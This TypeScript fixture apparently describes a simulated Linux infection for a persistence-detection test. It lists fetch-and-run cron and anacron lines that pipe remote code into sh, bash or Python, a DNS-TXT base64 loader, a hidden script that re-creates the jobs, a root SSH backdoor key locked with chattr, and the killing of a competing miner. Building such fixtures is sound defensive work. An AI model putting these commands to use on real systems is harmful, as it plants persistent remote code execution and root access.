import type { Infection } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const job = `*/5 * * * * c=cu; \${c}rl -s 198.51.100.3/z|sh`
const script = '/usr/share/doc/base-files/README.sh'

/** No program at all on the disk: jobs fetch it, and scripts keep the jobs. */
export const fetchedDaily: Infection = {
  family: 'fetched-daily',
  known: false,
  title: 'Only jobs that fetch',
  story: [
    'An anacron job, a script in cron.hourly and a timer of a user fetch from a tunnel and from a name in DNS.',
    'A script among the documents writes all of them again, and a key.',
  ],
  items: [
    {
      kind: 'line',
      path: '/etc/anacrontab',
      text: '1 7 man-cache python3 -c "import urllib.request as u;exec(u.urlopen(\'http://a.trycloudflare.com/x\').read())"',
    },
    {
      kind: 'file',
      path: '/etc/cron.hourly/0man',
      content: { text: "#!/bin/sh\ndig +short txt a.example.invalid @198.51.100.53 | tr -d '\"' | base64 -d | sh\n" },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: script,
      content: {
        text: `#!/bin/bash\nchattr -i /etc/cron.hourly\n(crontab -l; echo '${job}') | crontab -\nmkdir -p /root/.ssh; echo '${loginKey('ssh-rsa', 'fetched', 'root@localhost')}' >> /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys\npkill -9 kinsing; curl -s http://198.51.100.3/z | bash\n`,
      },
      mode: 0o755,
    },
    { kind: 'line', path: '/etc/cron.d/base-files', text: `33 * * * * root ${script}` },
    {
      kind: 'line',
      path: '/root/.ssh/authorized_keys',
      text: loginKey('ssh-rsa', 'fetched', 'root@localhost'),
      mode: 0o600,
    },
    {
      kind: 'line',
      path: '/var/spool/cron/crontabs/root',
      text: job,
      mode: 0o600,
    },
  ],
}
